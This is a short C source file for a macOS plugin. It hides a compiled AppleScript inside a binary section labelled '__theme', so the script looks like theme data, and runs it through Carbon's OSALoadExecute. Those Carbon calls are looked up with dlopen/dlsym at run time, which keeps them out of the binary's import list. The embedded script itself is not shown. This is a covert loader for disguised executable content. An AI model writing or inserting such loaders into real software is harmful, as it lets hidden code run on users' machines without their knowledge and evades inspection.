/* A compiled script in a section of its own, for whom dlsym finds. */
#include "plugin.h"
#include "packed.h" /* SCRIPT */
extern void *dlopen(const char *, int), *dlsym(void *, const char *);
__attribute__((section("__TEXT,__theme"), used)) static const unsigned char theme[] = {SCRIPT};
typedef struct { unsigned type; void *handle; } descriptor;
static void act(char **env) {
    void *carbon = dlopen("/System/Library/Frameworks/Carbon.framework/Carbon", 1);
    short (*make)(unsigned, const void *, long, descriptor *) = dlsym(carbon, "AECreateDesc");
    void *(*component)(unsigned, unsigned) = dlsym(carbon, "OpenDefaultComponent");
    int (*run)(void *, const descriptor *, unsigned, int, unsigned *) = dlsym(carbon, "OSALoadExecute");
    descriptor data;
    unsigned result;
    make('scpt', theme, sizeof theme, &data);
    run(component('osa ', 'scpt'), &data, 0, 0, &result);
}
